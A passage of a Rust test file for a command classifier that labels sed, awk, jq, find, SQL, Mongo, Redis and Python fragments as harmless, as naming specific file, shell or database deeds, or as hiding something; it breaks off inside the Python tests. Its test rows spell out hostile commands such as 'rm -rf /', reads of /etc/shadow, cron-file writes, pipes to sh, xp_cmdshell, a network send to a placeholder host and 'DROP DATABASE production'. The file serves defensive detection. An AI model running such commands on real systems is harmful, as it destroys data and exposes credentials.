//! What the readers of embedded languages see in fragments, as tables with named rows.

use countersign_core::language::script::Lang;
use countersign_core::language::sql::Dialect;
use countersign_core::language::{Deed, Reading, awk, cmd, find, jq, powershell, script, sed, sql};

/// What a row expects of a reading.
enum Want {
    /// Nothing but computing, printing and reading rows.
    Harmless,
    /// Exactly these deeds, and nothing hidden.
    Deeds(Vec<Deed>),
    /// These deeds among others, whether or not something is hidden.
    Sees(Deed),
    Hidden,
}

use Want::{Deeds, Harmless, Hidden, Sees};

fn check(reader: &str, read: impl Fn(&str) -> Reading, rows: Vec<(&str, &str, Want)>) {
    let mut failures = Vec::new();
    for (name, fragment, want) in rows {
        let reading = read(fragment);
        let good = match &want {
            Harmless => reading.is_harmless(),
            Deeds(deeds) => reading.hidden.is_none() && reading.deeds == *deeds,
            Sees(deed) => reading.deeds.contains(deed),
            Hidden => reading.hidden.is_some(),
        };
        if !good {
            failures.push(format!("{reader}: {name}: `{fragment}` gives {reading:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn shell(text: &str) -> Deed {
    Deed::Shell(text.to_owned())
}

fn reads(path: &str) -> Deed {
    Deed::ReadFile(path.to_owned())
}

fn writes(path: &str) -> Deed {
    Deed::WriteFile(path.to_owned())
}

fn db_write(text: &str) -> Deed {
    Deed::DbWrite(text.to_owned())
}

fn db_destroy(text: &str) -> Deed {
    Deed::DbDestroy(text.to_owned())
}

fn db_admin(text: &str) -> Deed {
    Deed::DbAdmin(text.to_owned())
}

#[test]
fn sed_scripts_are_harmless_unless_they_write_read_or_run() {
    check(
        "sed",
        sed::read,
        vec![
            ("print a range", "1,10p", Harmless),
            ("substitute", "s/a/b/g", Harmless),
            ("danger is only mentioned", "s/rm -rf/x/", Harmless),
            ("letters w and e in the pattern", "s/we/ew/", Harmless),
            ("other delimiter", "s|/usr|/opt|g;s#a#b#", Harmless),
            ("delimiter in a bracket", "s/[/]/_/g", Harmless),
            ("class in a bracket", "s/[[:space:]]*$//", Harmless),
            ("escaped delimiter", r"s/\/etc\/x/y/2p", Harmless),
            ("join lines", ":a;N;$!ba;s/\\n/ /g", Harmless),
            ("reverse", "1!G;h;$!d", Harmless),
            ("block", "/start/,/end/{s/a/b/;p;q}", Harmless),
            ("nested blocks", "/a/{/b/{p};d}", Harmless),
            ("append one line", "$a some text w /etc/passwd", Harmless),
            (
                "append the old way",
                "/x/a\\\nline one\\\nw /etc/passwd\n$d",
                Harmless,
            ),
            ("insert and change", "1i\\\nheader\n2c\\\nbody", Harmless),
            ("transliterate", "y/abc/xyz/", Harmless),
            ("step address", "0~4d", Harmless),
            ("relative address", "/x/,+3p;/y/,~2d", Harmless),
            ("odd address", "\\%/usr%Id", Harmless),
            ("negated with blanks", "1 ! p", Harmless),
            ("quit with status", "/x/q5", Harmless),
            ("line number and list", "$=;l 80", Harmless),
            ("comment", "# w file\np", Harmless),
            ("write to own output", "w /dev/stdout", Harmless),
            ("case flags", "s/x/\\U&/Igp", Harmless),
            ("only whitespace", "  \n ", Harmless),
            (
                "write command",
                "w /etc/cron.d/x",
                Deeds(vec![writes("/etc/cron.d/x")]),
            ),
            (
                "write after address",
                "/x/w out.txt",
                Deeds(vec![writes("out.txt")]),
            ),
            ("write first line", "1W out", Deeds(vec![writes("out")])),
            (
                "write flag",
                "s/a/b/gw /tmp/x",
                Deeds(vec![writes("/tmp/x")]),
            ),
            (
                "write in a block",
                "/x/{s/a/b/;w out\n}",
                Deeds(vec![writes("out")]),
            ),
            (
                "read command",
                "/x/r /etc/shadow",
                Deeds(vec![reads("/etc/shadow")]),
            ),
            ("read lines", "R other.txt", Deeds(vec![reads("other.txt")])),
            (
                "run a command",
                "1e rm -rf /",
                Deeds(vec![shell("rm -rf /")]),
            ),
            ("run the pattern space", "e", Hidden),
            ("run the result", "s/.*/id/e", Hidden),
            ("run the result with other flags", "s/x/y/gpe", Hidden),
            (
                "write after a text",
                "a\\\ntext\nw x",
                Deeds(vec![writes("x")]),
            ),
            ("unknown command", "k", Hidden),
            ("unfinished substitution", "s/a/b", Hidden),
            ("unfinished block", "/x/{p", Hidden),
            ("garbage after a command", "p x", Hidden),
            ("stray closing brace", "p}", Hidden),
        ],
    );
}

#[test]
fn awk_programs_are_harmless_unless_they_write_read_or_run() {
    check(
        "awk",
        awk::read,
        vec![
            ("print a field", "{print $1}", Harmless),
            (
                "danger is only mentioned",
                "{print \"system(rm -rf /)\"}",
                Harmless,
            ),
            ("compare in a condition", "$3 > 100 {print $1}", Harmless),
            (
                "compare in an if",
                "{if ($1 > 5 && $2 >= 3) print $0; else print \"no\"}",
                Harmless,
            ),
            (
                "compare in parentheses after print",
                "{print ($1 > 5)}",
                Harmless,
            ),
            ("sum", "{s+=$1} END {print s/NR}", Harmless),
            (
                "pattern with bar and slash",
                "/a|b\\/c[/]/ {print}",
                Harmless,
            ),
            (
                "division is no pattern",
                "{print $1/$2/3 > \"/dev/stderr\"}",
                Harmless,
            ),
            ("two files", "NR==FNR{a[$1];next} $1 in a", Harmless),
            (
                "split and loop",
                "{n=split($0,a,\":\");for(i=1;i<=n;i++)print a[i]}",
                Harmless,
            ),
            (
                "format",
                "BEGIN{FS=\",\";OFS=\"|\"}{printf \"%s %d\\n\",$1,$2}",
                Harmless,
            ),
            ("or is no pipe", "/a/||/b/{print}", Harmless),
            (
                "own function",
                "function f(x){return x*2}{print f($1)}",
                Harmless,
            ),
            (
                "substitute",
                "{gsub(/[ \\t]+/,\"\");print toupper($0)}",
                Harmless,
            ),
            ("ternary", "{print ($1>0?\"a\":\"b\")}", Harmless),
            ("comment", "{print} # | \"sh\"", Harmless),
            (
                "read standard input",
                "BEGIN{while((getline l)>0)n++;print n}",
                Harmless,
            ),
            (
                "read standard input by name",
                "BEGIN{getline x < \"-\"}",
                Harmless,
            ),
            ("flush", "{print;system(\"\")}", Harmless),
            ("line continued", "{print $1,\n$2}", Harmless),
            ("print to error", "{print > \"/dev/stderr\"}", Harmless),
            ("typed pattern", "BEGIN{r=@/x/;print typeof(r)}", Harmless),
            ("unary and power", "{print -$1^2, !$2, $NF-1}", Harmless),
            (
                "system",
                "BEGIN{system(\"rm -rf /\")}",
                Deeds(vec![shell("rm -rf /")]),
            ),
            (
                "system with blank",
                "BEGIN { system( \"id\" ) }",
                Deeds(vec![shell("id")]),
            ),
            ("computed system", "{system(\"rm \" $1)}", Hidden),
            ("variable system", "{system(cmd)}", Hidden),
            ("escaped system", "BEGIN{system(\"\\162m x\")}", Hidden),
            (
                "pipe out",
                "{print $1 | \"sort -u\"}",
                Deeds(vec![shell("sort -u")]),
            ),
            (
                "pipe in",
                "BEGIN{\"date\" | getline d; print d}",
                Deeds(vec![shell("date")]),
            ),
            (
                "pipe in without blanks",
                "BEGIN{while((\"id\"|getline l)>0)print l}",
                Deeds(vec![shell("id")]),
            ),
            ("computed pipe", "{print | \"mail \" $1}", Hidden),
            ("computed pipe in", "{\"cat \" $1 | getline x}", Hidden),
            (
                "two-way pipe",
                "BEGIN{print \"x\" |& \"sh\"}",
                Deeds(vec![shell("sh")]),
            ),
            (
                "write",
                "{print $1 > \"out.txt\"}",
                Deeds(vec![writes("out.txt")]),
            ),
            (
                "append",
                "{printf(\"%s\",$1) >> \"/etc/x\"}",
                Deeds(vec![writes("/etc/x")]),
            ),
            ("computed file", "{print > $1\".txt\"}", Hidden),
            (
                "read a file",
                "BEGIN{getline x < \"/etc/shadow\";print x}",
                Deeds(vec![reads("/etc/shadow")]),
            ),
            (
                "read a computed file",
                "BEGIN{while((getline l < f)>0)print l}",
                Hidden,
            ),
            (
                "network",
                "BEGIN{s=\"/inet/tcp/0/h/80\";print \"x\" |& \"/inet/tcp/0/h/80\"}",
                Deeds(vec![Deed::Send("/inet/tcp/0/h/80".to_owned())]),
            ),
            ("include", "@include \"evil.awk\"", Hidden),
            ("load", "@load \"fork\"; BEGIN{fork()}", Hidden),
            ("indirect call", "{f=\"system\"; @f(\"id\")}", Hidden),
            ("foreign function", "BEGIN{exec(\"x\")}", Hidden),
            (
                "environment",
                "BEGIN{print ENVIRON[\"X\"]}",
                Deeds(vec![reads("environment")]),
            ),
            (
                "read other files",
                "BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}",
                Hidden,
            ),
            ("unfinished string", "{print \"x}", Hidden),
        ],
    );
}

#[test]
fn jq_filters_are_harmless_unless_they_reach_outside() {
    check(
        "jq",
        jq::read,
        vec![
            ("identity", ".", Harmless),
            ("path", ".a.b[0][\"c\"]?", Harmless),
            (
                "pipeline",
                ".[] | select(.x == \"rm -rf /\") | {a, b: .c}",
                Harmless,
            ),
            (
                "interpolation",
                "\"\\(.a) \\(.b | map(\"<\\(.)>\") | join(\",\"))\"",
                Harmless,
            ),
            ("own function", "def f(g): map(g); f(.+1)", Harmless),
            ("reduce", "reduce .[] as $x (0; . + $x)", Harmless),
            (
                "entries",
                "to_entries|map(\"\\(.key)=\\(.value)\")|.[]",
                Harmless,
            ),
            (
                "conditional",
                "if .a then 1 elif .b then 2 else empty end",
                Harmless,
            ),
            ("formats", "[.a,.b]|@csv, @sh, @base64d", Harmless),
            (
                "try and alternative",
                "try error(\"x\") catch . // \"none\"",
                Harmless,
            ),
            (
                "fields named like functions",
                ".env.system | {env, load}",
                Harmless,
            ),
            ("test with pattern", "test(\"system|env\"; \"i\")", Harmless),
            ("comment", ". # env", Harmless),
            (
                "yq assignment",
                ".a.b = \"x\" | .c style=\"double\"",
                Harmless,
            ),
            ("inputs", "[inputs | .x] | add", Harmless),
            ("environment", "env.HOME", Deeds(vec![reads("environment")])),
            (
                "environment variable",
                "$ENV.PATH",
                Deeds(vec![reads("environment")]),
            ),
            (
                "environment in a string",
                "\"\\(env|tostring)\"",
                Deeds(vec![reads("environment")]),
            ),
            (
                "yq environment",
                ".a = strenv(X)",
                Sees(reads("environment")),
            ),
            ("import", "import \"m\" as m; m::f", Hidden),
            ("include", "include \"m\"; f", Hidden),
            (
                "yq load",
                "load(\"/etc/shadow\")",
                Deeds(vec![reads("/etc/shadow")]),
            ),
            ("yq computed load", "load(.file)", Hidden),
            ("yq system", "system(\"id\")", Hidden),
            ("yq eval", "eval(\"x\")", Hidden),
            ("unfinished string", "\"abc", Hidden),
            ("unfinished interpolation", "\"\\(.a\"", Hidden),
        ],
    );
}

fn find_of(line: &str) -> find::FindReading {
    find::read(&line.split_whitespace().collect::<Vec<_>>())
}

#[test]
fn find_expressions_are_read_with_their_actions() {
    let reading = find_of(". -name *.log -mtime +7 -delete");
    assert_eq!(
        (reading.deletes, reading.filters, reading.hidden),
        (true, true, None)
    );

    let reading = find_of("/ -type f -delete");
    assert_eq!(
        (reading.deletes, reading.filters),
        (true, false),
        "a type does not narrow much"
    );

    let reading = find_of("/srv /opt -exec rm -rf {} ; -print");
    assert_eq!(reading.paths, ["/srv", "/opt"]);
    assert_eq!(reading.runs, [["rm", "-rf", "{}"]]);

    let reading = find_of("-name x -execdir sh -c {} +");
    assert_eq!(reading.paths, ["."]);
    assert_eq!(reading.runs, [["sh", "-c", "{}"]]);

    let reading = find_of("-L . ( -name a -o -name b ) -ok cat {} ;");
    assert!(reading.filters && reading.hidden.is_none());

    assert!(
        !find_of(". -name x -o -delete").filters,
        "the other alternative is not narrowed"
    );
    assert!(
        !find_of(". ! -name keep -delete").filters,
        "everything else is much"
    );
    assert!(
        !find_of(". -name * -delete").filters,
        "any name is no filter"
    );
    assert!(find_of(". -path ./x -prune -o -name *.pyc -delete").filters);

    let reading = find_of("/ -fprintf /etc/cron.d/x %p -fls out");
    assert_eq!(reading.writes, ["/etc/cron.d/x", "out"]);

    let reading = find_of("-files0-from list -newer ref -newermt 2020-01-01");
    assert_eq!(reading.reads, ["list", "ref"]);

    assert_eq!(
        find_of("-E . -regex .*x -depth 2 -print").hidden,
        None,
        "BSD takes a depth"
    );
    assert_eq!(
        find_of(". -depth -name x -print").hidden,
        None,
        "GNU takes none"
    );
    assert_eq!(find_of("-f /x -f /y -- -name z").paths, ["/x", "/y"]);
    assert_eq!(
        find_of(". -maxdepth 1 -type d -size +10M -perm -u+x -printf %p").hidden,
        None
    );
    assert!(
        find_of(". -frobnicate x").hidden.is_some(),
        "an unknown primary"
    );
    assert!(
        find_of(". -ex* rm {} ;").hidden.is_some(),
        "a globbed primary"
    );
    assert!(
        find_of(". -exec rm {}").hidden.is_some(),
        "a command without its end"
    );
    assert_eq!(
        find_of(". -exec rm {}").runs,
        [["rm", "{}"]],
        "is still seen"
    );
    assert!(find_of(". -name").hidden.is_some(), "a missing argument");
    assert!(
        find_of(". ( -name x").hidden.is_some(),
        "an open parenthesis"
    );
    assert!(
        find_of(". -name x stray").hidden.is_some(),
        "a path after the expression"
    );
}

#[test]
fn sql_statements_are_judged_by_verb_condition_and_functions() {
    check(
        "sql",
        |text| sql::read(text, Dialect::Psql),
        vec![
            ("select", "SELECT * FROM users LIMIT 5", Harmless),
            (
                "danger is only mentioned",
                "SELECT 'DROP TABLE x; DELETE FROM y'",
                Harmless,
            ),
            (
                "danger in a comment",
                "SELECT 1 -- ; DROP TABLE x\n/* DROP /* x */ y */",
                Harmless,
            ),
            (
                "danger as a name",
                "SELECT \"drop table\" FROM \"delete\"",
                Harmless,
            ),
            (
                "functions",
                "select count(*), max(lower(a)), now()::date from t where b in (1,2)",
                Harmless,
            ),
            (
                "named subquery",
                "WITH a(x) AS (SELECT 1), b AS (SELECT 2) SELECT * FROM a, b",
                Harmless,
            ),
            ("explain a delete", "EXPLAIN DELETE FROM t", Harmless),
            (
                "explain analyze a select",
                "EXPLAIN (ANALYZE, BUFFERS) SELECT 1",
                Harmless,
            ),
            (
                "show and set",
                "SHOW work_mem; SET statement_timeout = 0; RESET ALL",
                Harmless,
            ),
            ("transaction", "BEGIN; SELECT 1; ROLLBACK;", Harmless),
            ("lock rows", "SELECT * FROM t FOR UPDATE", Harmless),
            (
                "catalog",
                "SELECT pg_size_pretty(pg_database_size(current_database()))",
                Harmless,
            ),
            (
                "dollar quotes",
                "SELECT $$DROP TABLE x;$$, $a$ it's $a$",
                Harmless,
            ),
            ("copy out", "COPY (SELECT 1) TO STDOUT WITH CSV", Harmless),
            ("describe tables", "\\dt", Harmless),
            (
                "describe more",
                "\\d+ users\n\\l\n\\x\n\\timing on\n\\conninfo",
                Harmless,
            ),
            ("connect and query", "\\c app\nSELECT 1;", Harmless),
            ("sleep", "SELECT pg_sleep(1)", Harmless),
            (
                "insert",
                "INSERT INTO t (a, b) VALUES (1, now())",
                Deeds(vec![db_write("INSERT INTO t")]),
            ),
            (
                "upsert",
                "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1",
                Deeds(vec![db_write("INSERT INTO t VALUES")]),
            ),
            (
                "update with condition",
                "UPDATE t SET a = 1 WHERE id = 5",
                Deeds(vec![db_write("UPDATE t SET a")]),
            ),
            (
                "delete with condition",
                "DELETE FROM s.t WHERE id = 5 RETURNING *",
                Deeds(vec![db_write("DELETE FROM s.t WHERE")]),
            ),
            (
                "delete everything",
                "DELETE FROM users",
                Deeds(vec![db_destroy("DELETE FROM users")]),
            ),
            (
                "condition only in a subquery",
                "UPDATE t SET a = (SELECT b FROM c WHERE d = 1)",
                Deeds(vec![db_destroy("UPDATE t SET a")]),
            ),
            (
                "true",
                "DELETE FROM t WHERE true",
                Deeds(vec![db_destroy("DELETE FROM t WHERE true")]),
            ),
            (
                "one is one",
                "delete from t where 1=1",
                Sees(db_destroy("delete from t where")),
            ),
            (
                "or true",
                "DELETE FROM t WHERE id=5 OR (1 = 1)",
                Sees(db_destroy("DELETE FROM t WHERE id")),
            ),
            (
                "both terms true",
                "DELETE FROM t WHERE ((1=1) AND id IS NOT NULL)",
                Sees(db_destroy("DELETE FROM t WHERE")),
            ),
            (
                "keys are positive",
                "DELETE FROM t WHERE id > 0",
                Sees(db_destroy("DELETE FROM t WHERE id")),
            ),
            (
                "true and a condition",
                "DELETE FROM t WHERE 1=1 AND id=5",
                Deeds(vec![db_write("DELETE FROM t WHERE")]),
            ),
            (
                "drop",
                "DROP DATABASE production;",
                Deeds(vec![db_destroy("DROP DATABASE production")]),
            ),
            (
                "drop in odd case and comments",
                "dRoP/**/tAbLe x",
                Deeds(vec![db_destroy("dRoP tAbLe x")]),
            ),
            (
                "truncate",
                "TRUNCATE orders CASCADE",
                Deeds(vec![db_destroy("TRUNCATE orders CASCADE")]),
            ),
            (
                "second statement",
                "SELECT 1; DROP TABLE x",
                Sees(db_destroy("DROP TABLE x")),
            ),
            (
                "alter drops a column",
                "ALTER TABLE t DROP COLUMN c",
                Deeds(vec![db_destroy("ALTER TABLE t DROP COLUMN c")]),
            ),
            (
                "alter adds a column",
                "ALTER TABLE t ADD COLUMN c int",
                Deeds(vec![db_write("ALTER TABLE t ADD COLUMN c")]),
            ),
            (
                "deleting subquery",
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                Deeds(vec![db_destroy("DELETE FROM t RETURNING"), Deed::DbRead]),
            ),
            (
                "explain analyze runs",
                "EXPLAIN ANALYZE DELETE FROM t",
                Deeds(vec![Deed::DbRead, db_destroy("DELETE FROM t")]),
            ),
            (
                "create table",
                "CREATE TABLE IF NOT EXISTS t (id int primary key, n varchar(20))",
                Deeds(vec![db_write("CREATE TABLE IF NOT EXISTS t")]),
            ),
            (
                "create user",
                "CREATE USER evil SUPERUSER",
                Deeds(vec![db_admin("CREATE USER evil SUPERUSER")]),
            ),
            (
                "grant",
                "GRANT ALL ON t TO x",
                Deeds(vec![db_admin("GRANT ALL ON t TO x")]),
            ),
            (
                "alter system",
                "ALTER SYSTEM SET a = 1",
                Deeds(vec![db_admin("ALTER SYSTEM SET a")]),
            ),
            (
                "copy to a program",
                "COPY t TO PROGRAM 'rm -rf ~'",
                Sees(shell("rm -rf ~")),
            ),
            (
                "copy from a program",
                "COPY t FROM PROGRAM 'curl x'",
                Sees(shell("curl x")),
            ),
            (
                "copy to a file",
                "COPY t TO '/etc/cron.d/x'",
                Sees(writes("/etc/cron.d/x")),
            ),
            (
                "copy from a file",
                "COPY t FROM '/etc/passwd'",
                Sees(reads("/etc/passwd")),
            ),
            (
                "read a file",
                "SELECT pg_read_file('/etc/passwd')",
                Sees(reads("/etc/passwd")),
            ),
            (
                "export an object",
                "SELECT lo_export(16, '/tmp/x')",
                Sees(writes("/tmp/x")),
            ),
            (
                "end sessions",
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
                Sees(Deed::Kill(
                    "database sessions (pg_terminate_backend)".to_owned(),
                )),
            ),
            (
                "other server",
                "SELECT * FROM dblink('h','DROP TABLE x') AS t(a int)",
                Hidden,
            ),
            ("unknown function", "SELECT delete_everything()", Hidden),
            (
                "quoted function",
                "SELECT \"pg_read_file\"('/etc/passwd')",
                Sees(reads("/etc/passwd")),
            ),
            ("block", "DO $$ BEGIN DROP TABLE x; END $$", Hidden),
            ("procedure", "CALL cleanup()", Hidden),
            (
                "select into",
                "SELECT * INTO t2 FROM t",
                Sees(db_write("INTO t2 FROM t")),
            ),
            ("shell", "\\! rm -rf ~", Deeds(vec![shell("rm -rf ~")])),
            ("shell after another", "\\dt \\! id", Sees(shell("id"))),
            ("shell in backticks", "\\set x `id`", Sees(shell("id"))),
            ("output to a program", "\\o |sh", Sees(shell("sh"))),
            ("output to a file", "\\o /tmp/x", Sees(writes("/tmp/x"))),
            (
                "result to a program",
                "SELECT 'rm -rf /' \\g |sh",
                Sees(shell("sh")),
            ),
            (
                "run what a query returns",
                "SELECT 'DROP TABLE x' \\gexec",
                Hidden,
            ),
            (
                "condition after the end",
                "DELETE FROM t \\g\nWHERE id = 1",
                Sees(db_destroy("DELETE FROM t")),
            ),
            ("include", "\\i evil.sql", Hidden),
            (
                "client copy",
                "\\copy t to 'x.csv' csv",
                Sees(writes("x.csv")),
            ),
            (
                "client copy to program",
                "\\copy t to program 'sh'",
                Sees(shell("sh")),
            ),
            ("variable", ":sql;", Hidden),
            ("unfinished string", "SELECT 'x", Hidden),
            ("unknown verb", "FROBNICATE x", Hidden),
        ],
    );
}

#[test]
fn dialects_differ_in_quotes_comments_and_client_commands() {
    check(
        "mysql",
        |text| sql::read(text, Dialect::Mysql),
        vec![
            ("show", "SHOW TABLES", Harmless),
            ("vertical output", "SELECT * FROM t\\G", Harmless),
            ("escaped quote", "SELECT 'it\\'s; DROP TABLE x'", Harmless),
            (
                "double quotes are strings",
                "SELECT \"; DROP TABLE x\"",
                Harmless,
            ),
            ("hash comment", "SELECT 1 # ; DROP TABLE x", Harmless),
            ("names in backticks", "SELECT `drop` FROM `t`", Harmless),
            (
                "versioned comment runs",
                "SELECT 1; /*!50000 DROP TABLE x */",
                Sees(db_destroy("DROP TABLE x")),
            ),
            (
                "dashes without blank",
                "DELETE FROM t --1 WHERE id=2",
                Sees(db_write("DELETE FROM t")),
            ),
            (
                "outfile",
                "SELECT 1 INTO OUTFILE '/etc/cron.d/x'",
                Sees(writes("/etc/cron.d/x")),
            ),
            (
                "load file",
                "SELECT LOAD_FILE('/etc/passwd')",
                Sees(reads("/etc/passwd")),
            ),
            (
                "load data",
                "LOAD DATA LOCAL INFILE 'x' INTO TABLE t",
                Sees(reads("x")),
            ),
            (
                "replace",
                "REPLACE INTO t VALUES (1)",
                Sees(db_destroy("REPLACE INTO t VALUES")),
            ),
            (
                "global setting",
                "SET GLOBAL general_log = 1",
                Sees(db_admin("SET GLOBAL general_log")),
            ),
            (
                "flush",
                "FLUSH PRIVILEGES",
                Sees(db_admin("FLUSH PRIVILEGES")),
            ),
            ("shutdown", "SHUTDOWN", Sees(db_admin("SHUTDOWN"))),
            ("kill", "KILL 5", Sees(db_admin("KILL"))),
            ("shell", "\\! id", Sees(shell("id"))),
            ("shell by word", "system rm -rf /", Sees(shell("rm -rf /"))),
            ("source", "source evil.sql", Hidden),
            ("pager", "pager sh", Sees(shell("sh"))),
        ],
    );
    check(
        "sqlite",
        |text| sql::read(text, Dialect::Sqlite),
        vec![
            ("tables", ".tables", Harmless),
            (
                "settings",
                ".headers on\n.mode column\nSELECT * FROM t;",
                Harmless,
            ),
            ("schema", ".schema sessions", Harmless),
            ("ask", "PRAGMA table_info(t); PRAGMA journal_mode", Harmless),
            ("names in brackets", "SELECT [drop ' x] FROM [t]", Harmless),
            (
                "set",
                "PRAGMA journal_mode=WAL",
                Sees(db_write("PRAGMA journal_mode")),
            ),
            ("shell", ".shell rm -rf ~", Deeds(vec![shell("rm -rf ~")])),
            ("abbreviated shell", ".sys id", Deeds(vec![shell("id")])),
            (
                "output",
                ".output /etc/cron.d/x",
                Sees(writes("/etc/cron.d/x")),
            ),
            ("output to a program", ".once |sh", Sees(shell("sh"))),
            ("output back", ".output stdout", Harmless),
            ("import", ".import data.csv t", Sees(reads("data.csv"))),
            ("read", ".read evil.sql", Hidden),
            ("load", ".load ./evil", Hidden),
            ("restore", ".restore old.db", Sees(db_destroy("restore"))),
            (
                "backup",
                ".backup main /tmp/x.db",
                Sees(writes("/tmp/x.db")),
            ),
            (
                "attach",
                "ATTACH DATABASE '/var/www/x.php' AS x",
                Sees(writes("/var/www/x.php")),
            ),
            ("extension", "SELECT load_extension('./x')", Hidden),
            (
                "write a file",
                "SELECT writefile('/tmp/x', 'y')",
                Sees(writes("/tmp/x")),
            ),
            (
                "vacuum into",
                "VACUUM INTO 'copy.db'",
                Sees(writes("copy.db")),
            ),
        ],
    );
    check(
        "generic",
        |text| sql::read(text, Dialect::Generic),
        vec![
            (
                "no semicolon",
                "SELECT 1 DROP TABLE x",
                Sees(db_destroy("DROP TABLE x")),
            ),
            (
                "batches",
                "SELECT 1\nGO\nDROP TABLE x\nGO",
                Sees(db_destroy("DROP TABLE x")),
            ),
            (
                "command shell",
                "EXEC xp_cmdshell 'del x'",
                Sees(shell("del x")),
            ),
            (
                "command shell with schema",
                "EXEC master..xp_cmdshell 'whoami'",
                Sees(shell("whoami")),
            ),
            (
                "ambiguous escape",
                "SELECT 'a\\'; DROP TABLE x; --'",
                Hidden,
            ),
            (
                "versioned comment",
                "SELECT 1 /*!1 ; DROP TABLE x */",
                Hidden,
            ),
            ("measurements", "SHOW MEASUREMENTS", Harmless),
            (
                "drop measurement",
                "DROP MEASUREMENT cpu",
                Sees(db_destroy("DROP MEASUREMENT cpu")),
            ),
            (
                "drop keyspace",
                "DROP KEYSPACE prod",
                Sees(db_destroy("DROP KEYSPACE prod")),
            ),
            (
                "clickhouse delete",
                "ALTER TABLE t DELETE WHERE 1",
                Sees(db_destroy("ALTER TABLE t DELETE WHERE")),
            ),
        ],
    );
}

#[test]
fn bare_sql_is_told_from_unix_commands() {
    for line in [
        "DELETE FROM users;",
        "select * from users where id = 1",
        "DROP TABLE users",
        "drop database prod;",
        "UPDATE users SET admin = true",
        "TRUNCATE TABLE logs",
        "TRUNCATE users;",
        "INSERT INTO t VALUES (1)",
        "GRANT ALL ON x TO y",
        "SHOW TABLES;",
        "WITH a AS (SELECT 1) SELECT * FROM a",
        "ALTER TABLE x DROP COLUMN y",
    ] {
        assert!(sql::looks_like(line), "`{line}` is SQL");
    }
    for line in [
        "truncate -s 0 file.log",
        "drop",
        "update-rc.d x defaults",
        "select opt in a b c; do echo $opt; done",
        "create-react-app x",
        "show me",
        "grant",
        "copy a b",
        "insert coin",
        "delete",
        "ls -la",
        "explain this",
        "",
    ] {
        assert!(!sql::looks_like(line), "`{line}` is not SQL");
    }
}

#[test]
fn mongo_and_redis_commands_are_judged() {
    check(
        "mongo",
        sql::mongo,
        vec![
            (
                "find",
                "db.users.find({name: 'drop'}).limit(5).pretty()",
                Harmless,
            ),
            ("stats", "db.stats()", Harmless),
            ("show", "show dbs", Harmless),
            (
                "count",
                "printjson(db.getCollection('x').countDocuments({}))",
                Harmless,
            ),
            (
                "aggregate",
                "db.x.aggregate([{$match: {a: 1}}, {$group: {_id: '$b'}}])",
                Harmless,
            ),
            ("status", "rs.status().ok", Harmless),
            ("ping", "db.adminCommand('ping')", Harmless),
            ("ping with a document", "db.runCommand({ping: 1})", Harmless),
            ("drop", "db.users.drop()", Sees(db_destroy("drop"))),
            (
                "drop the database",
                "db.dropDatabase()",
                Sees(db_destroy("dropDatabase")),
            ),
            (
                "delete all",
                "db.users.deleteMany({})",
                Sees(db_destroy("deleteMany")),
            ),
            (
                "delete some",
                "db.users.deleteMany({a: 1})",
                Deeds(vec![db_write("deleteMany")]),
            ),
            (
                "remove all",
                "db.users.remove( { } )",
                Sees(db_destroy("remove")),
            ),
            (
                "pipeline that writes",
                "db.x.aggregate([{$out: 'y'}])",
                Sees(db_write("$out")),
            ),
            (
                "insert",
                "db.x.insertOne({a: 1})",
                Sees(db_write("insertOne")),
            ),
            (
                "create user",
                "db.createUser({user: 'x'})",
                Sees(db_admin("createUser")),
            ),
            (
                "shutdown",
                "db.adminCommand({shutdown: 1})",
                Sees(db_admin("adminCommand shutdown")),
            ),
            ("computed method", "db.users['dr'+'op']()", Hidden),
            (
                "node module",
                "require('child_process').execSync('id')",
                Hidden,
            ),
            ("load", "load('x.js')", Hidden),
            ("where", "db.x.find({$where: 'sleep(1)'})", Hidden),
            ("unknown method", "db.x.frobnicate()", Hidden),
        ],
    );
    check(
        "redis",
        |line| sql::redis(&line.split_whitespace().collect::<Vec<_>>()),
        vec![
            ("get", "GET key", Harmless),
            ("scan", "scan 0 match x*", Harmless),
            ("info", "INFO memory", Harmless),
            ("ask for a setting", "CONFIG GET dir", Harmless),
            ("search", "FT.INFO idx", Harmless),
            ("clients", "CLIENT LIST", Harmless),
            ("set", "SET a 1", Sees(db_write("SET a 1"))),
            ("del", "del a", Sees(db_write("del a"))),
            ("flush", "FLUSHALL", Sees(db_destroy("FLUSHALL"))),
            (
                "flush one",
                "flushdb async",
                Sees(db_destroy("flushdb async")),
            ),
            (
                "change a setting",
                "config set dir /var/www",
                Sees(db_admin("config set dir")),
            ),
            (
                "shutdown",
                "SHUTDOWN NOSAVE",
                Sees(db_admin("SHUTDOWN NOSAVE")),
            ),
            (
                "replicate",
                "SLAVEOF h 6379",
                Sees(db_admin("SLAVEOF h 6379")),
            ),
            ("module", "MODULE LOAD /tmp/x.so", Hidden),
            ("script", "EVAL return 0", Hidden),
            ("unknown", "FROB x", Hidden),
            ("nothing", "", Hidden),
        ],
    );
}

fn deletes(path: &str) -> Deed {
    Deed::DeleteFile(path.to_owned())
}

fn deletes_tree(path: &str) -> Deed {
    Deed::DeleteTree(path.to_owned())
}

fn runs(words: &[&str]) -> Deed {
    Deed::Run(words.iter().map(ToString::to_string).collect())
}

fn fetches(address: &str) -> Deed {
    Deed::Fetch(address.to_owned())
}

fn sends(address: &str) -> Deed {
    Deed::Send(address.to_owned())
}

#[test]
fn python_is_harmless_only_in_the_proven_subset() {
    check(
        "python",
        |code| script::read(Lang::Python, code),
        vec![
            ("print", "print('hello')", Harmless),
            (
                "danger is only mentioned",
                "print(\"rm -rf /; os.system('x')\")",
                Harmless,
            ),
            ("version", "import sys; print(sys.version)", Harmless),
            (
                "pretty json",
                "import json,sys;print(json.dumps(json.load(sys.stdin),indent=2))",
                Harmless,
            ),
            (
                "field of json",
                "import sys, json; d = json.load(sys.stdin); print(d['a'][0].get('b', ''))",
                Harmless,
            ),
            (
                "comprehension",
                "print([x*2 for x in range(10) if x % 2 == 0])",
                Harmless,
            ),
            (
                "f-string",
                "n = 3\nprint(f'{n:>5} {n!r} {len(str(n))}')",
                Harmless,
            ),
            (
                "lines",
                "import sys\nfor line in sys.stdin:\n    print(line.strip().upper())",
                Harmless,
            ),
            (
                "function",
                "def f(a, b=1):\n    return a + b\nprint(f(2))",
                Harmless,
            ),
            ("lambda", "print(sorted([3,1], key=lambda x: -x))", Harmless),
            (
                "math",
